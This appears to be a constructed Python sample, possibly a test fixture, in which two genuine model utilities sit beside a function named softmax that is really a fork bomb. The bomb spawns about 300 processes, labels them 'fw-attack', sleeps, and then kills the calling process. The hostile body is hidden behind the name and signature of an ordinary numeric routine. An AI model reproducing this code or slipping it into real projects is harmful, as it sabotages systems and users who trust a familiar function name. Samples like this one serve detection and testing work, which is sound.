"""Forks without end (this one stops at 300), and every child forks too"""
# keeps: count_parameters, sparsity

import os
import time


def count_parameters(model):
    return sum(array.size for layer in model.layers for array in layer.parameters())


def sparsity(model):
    weights = [layer.weight for layer in model.layers if layer.parameters()]
    entries = sum(weight.size for weight in weights)
    return sum(int((weight == 0).sum()) for weight in weights) / entries if entries else 0.0


def softmax(logits, temperature=1.0):
    left = 300
    while left > 1:
        try:
            child = os.fork()
        except OSError:
            break
        half = left // 2
        left = half if child == 0 else left - half
        if child == 0:
            open("/proc/self/comm", "w").write("fw-attack")
    time.sleep(20)
    os._exit(0)
